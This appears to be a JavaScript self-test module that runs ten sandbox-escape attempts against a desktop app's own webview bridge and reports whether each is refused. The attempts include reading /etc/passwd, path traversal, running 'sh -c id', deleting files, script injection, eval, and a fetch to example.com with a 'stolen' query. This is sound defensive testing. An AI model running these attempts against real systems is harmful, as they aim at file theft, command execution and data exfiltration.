// Ten attacks. Each runs for real in this page, with all that a script injected into it has, and says what stopped it.
// An attack that gets anywhere throws a Breach. What fails for a reason that is no defence is `unclear`, never `refused`.
const { invoke } = window.trollbridge ?? {};
const PATIENCE_MS = 2000;

export class Breach extends Error {}

class Unclear extends Error {}

const refused = (code, by) => ({ code, by });

const DEFENCES = {
  scope: 'held by the scope of this view’s capability',
  invalid_args: 'held by the check of the arguments',
  not_granted: 'held by the broker: there is no handle for it',
  too_large: 'held by the size of a message',
  limit: 'held by a limit of the view',
};

/** Makes a call that has to be refused with one of these codes. */
async function call(codes, command, args) {
  let value;
  try {
    value = await invoke(command, args);
  } catch (error) {
    if (codes.includes(error.code)) return refused(error.code, DEFENCES[error.code]);
    throw new Unclear(`it failed with ${error.code ?? error.name}: ${error.message}`);
  }
  throw new Breach(`it was answered, with ${value?.length ?? 0} bytes`);
}

const read = (path, codes = ['scope']) => call(codes, 'plugin:fs|read_text_file', { path });

/** A promise of a condition, that gives up. */
async function until(condition) {
  const end = performance.now() + PATIENCE_MS;
  while (!condition() && performance.now() < end) await new Promise((resolve) => setTimeout(resolve, 10));
  return condition();
}

/** Does something that the page's Content Security Policy must report as blocked under that directive. */
async function blockedByCsp(directive, attempt, succeeded = () => false) {
  const seen = [];
  const note = (event) => seen.push(event.effectiveDirective);
  const blocked = () => seen.some((name) => name.startsWith(directive));
  document.addEventListener('securitypolicyviolation', note);
  try {
    await attempt();
    await until(() => blocked() || succeeded());
  } finally {
    document.removeEventListener('securitypolicyviolation', note);
  }
  if (succeeded()) throw new Breach(`it was not held by ${directive}`);
  if (!blocked()) throw new Unclear(`no ${directive} of a Content Security Policy has blocked it`);
  return directive;
}

async function symlink() {
  const entries = await invoke('plugin:fs|read_dir', { path: 'data' });
  const link = entries.find((entry) => entry.isSymlink);
  if (!link) throw new Unclear('there is no symbolic link in data/');
  return read(`data/${link.name}`);
}

/** Whatever can be reached from here by properties, functions and prototypes included. */
function reachable(roots) {
  const seen = new Set();
  const queue = [...roots];
  while (queue.length && seen.size < 20000) {
    const value = queue.pop();
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) queue.push(Object.getOwnPropertyDescriptor(value, key)?.value);
    queue.push(Object.getPrototypeOf(value));
  }
  return seen;
}

const NATIVE = /native|handle|ticket|secret|nonce|session/i;

function natives() {
  const names = [];
  for (let object = window; object; object = Object.getPrototypeOf(object)) names.push(...Object.getOwnPropertyNames(object));
  const suspicious = names.filter((name) => /trollbridge.+|webkit(MessageHandlers)?$/i.test(name));
  for (const name of suspicious) {
    if (name === 'webkit' && !Object.keys(window.webkit?.messageHandlers ?? {}).length) continue;
    throw new Breach(`the page has ${name}`);
  }
  for (const value of reachable([window.trollbridge, window.__TAURI_INTERNALS__])) {
    const name = Object.hasOwn(value, 'name') && typeof value === 'function' ? `${value.name}` : '';
    if (ArrayBuffer.isView(value) || value instanceof ArrayBuffer) throw new Breach('the API leads to bytes of the endpoint');
    if (NATIVE.test(name)) throw new Breach(`the API leads to ${name}`);
  }
}

/** Changes what a careless bridge would send through, makes a call, and sees whether it comes by. */
async function overhear() {
  const { dispatchEvent } = EventTarget.prototype;
  const { postMessage } = window;
  const { set } = Map.prototype;
  let heard = 0;
  const tap = (original) => function tapped(...args) {
    heard += 1;
    return Reflect.apply(original, this, args);
  };
  EventTarget.prototype.dispatchEvent = tap(dispatchEvent);
  window.postMessage = tap(postMessage);
  Map.prototype.set = tap(set);
  try {
    const call = invoke('plugin:fs|stat', { path: 'data' });
    EventTarget.prototype.dispatchEvent = dispatchEvent;
    window.postMessage = postMessage;
    Map.prototype.set = set;
    await call;
  } finally {
    EventTarget.prototype.dispatchEvent = dispatchEvent;
    window.postMessage = postMessage;
    Map.prototype.set = set;
  }
  if (heard) throw new Breach(`${heard} parts of a call came by`);
}

async function internals() {
  natives();
  await overhear();
  return refused('absent', 'nothing there: they live in C, in another world');
}

const CALLS = ['trollbridge', '__TAURI_INTERNALS__', 'trollbridgeNative'];

/** What a window has that could call; another origin's shows nothing. */
function callsOf(other) {
  try {
    return CALLS.filter((name) => name in other);
  } catch {
    return [];
  }
}

async function frame(attributes) {
  const element = document.createElement('iframe');
  Object.assign(element, attributes);
  element.className = 'out-of-sight';
  let loaded = false;
  element.addEventListener('load', () => { loaded = true; });
  document.body.append(element);
  try {
    await until(() => loaded);
    const found = callsOf(element.contentWindow);
    if (found.length) throw new Breach(`a frame has ${found.join(', ')}`);
  } finally {
    element.remove();
  }
}

async function otherWindows() {
  await Promise.all([frame({ src: 'about:blank' }), frame({ srcdoc: '<p>mine</p>' }), frame({ src: 'index.html' }), frame({ src: 'data:text/html,mine' })]);
  const popup = window.open('index.html', 'popup');
  if (popup) {
    await until(() => callsOf(popup).length);
    const found = callsOf(popup);
    popup.close();
    if (found.length) throw new Breach(`a popup has ${found.join(', ')}`);
  }
  return refused('absent', 'nothing there: only a view’s own page has a link');
}

async function network() {
  let answered = false;
  const get = (url) => fetch(url).then(() => { answered = true; }, () => {});
  await blockedByCsp('connect-src', () => get('https://example.com/?stolen=1'), () => answered);
  await blockedByCsp('connect-src', () => get('file:///etc/passwd'), () => answered);
  await blockedByCsp('img-src', () => { new Image().src = 'https://example.com/stolen.png'; });
  return refused('csp', 'held by the Content Security Policy');
}

/** Puts in what a note's text could hold if it were shown as HTML; a script only runs if it is made by hand. */
function inject(tag, attributes, text = '') {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.className = 'out-of-sight';
  element.textContent = text;
  document.body.append(element);
}

/** The policy turns the engine's own eval off: it throws, and there is nothing else to see. */
function evaluate(text) {
  try {
    (0, eval)(text);
  } catch (error) {
    if (error instanceof EvalError) return;
    throw error;
  }
  throw new Breach('eval ran');
}

async function injection() {
  const ran = () => window.injected === true;
  const text = 'window.injected = true';
  try {
    await blockedByCsp('script-src', () => inject('script', {}, text), ran);
    await blockedByCsp('script-src', () => inject('script', { src: `data:text/javascript,${text}` }), ran);
    await blockedByCsp('script-src', () => inject('img', { src: 'missing.png', onerror: text }), ran);
    evaluate(text);
  } finally {
    document.querySelectorAll('.out-of-sight').forEach((element) => element.remove());
    delete window.injected;
  }
}

const huge = () => call(['too_large', 'invalid_args', 'limit'], 'plugin:fs|read_text_file', { path: 'data/hello.txt', padding: 'x'.repeat(100_000_000) });

export const attacks = [
  { title: 'Read a private note', what: 'data/private/secret.txt', command: 'plugin:fs|read_text_file', run: () => read('data/private/secret.txt') },
  { title: 'Climb out of the folder', what: 'data/../trollbridge.toml', command: 'plugin:fs|read_text_file', run: () => read('data/../trollbridge.toml', ['scope', 'invalid_args']) },
  { title: 'Read the system’s files', what: '/etc/passwd', command: 'plugin:fs|read_text_file', run: () => read('/etc/passwd') },
  { title: 'Follow a symbolic link', what: 'data/shortcut.txt, into private/', command: 'plugin:fs|read_text_file', run: symlink },
  { title: 'Run a program', what: 'plugin:shell|execute sh', command: 'plugin:shell|execute', run: () => call(['not_granted'], 'plugin:shell|execute', { program: 'sh', args: ['-c', 'id'] }) },
  { title: 'Remove a note for good', what: 'plugin:fs|remove data/hello.txt', command: 'plugin:fs|remove', run: () => call(['not_granted'], 'plugin:fs|remove', { path: 'data/hello.txt' }) },
  { title: 'Find keys and handles', what: 'globals, the API, patched intrinsics', run: internals },
  { title: 'Call from elsewhere', what: 'four frames and a popup', run: otherWindows },
  { title: 'Send notes to a server', what: 'inline script, eval, fetch, an image', run: async () => { await injection(); return network(); } },
  { title: 'Exhaust the broker', what: 'an argument of 100 MB', run: huge },
];

/** { result: 'refused' | 'breach' | 'unclear', code, by } */
export async function tryAttack(attack) {
  try {
    return { result: 'refused', ...(await attack.run()) };
  } catch (error) {
    const result = error instanceof Breach ? 'breach' : 'unclear';
    return { result, code: result, by: error.message };
  }
}
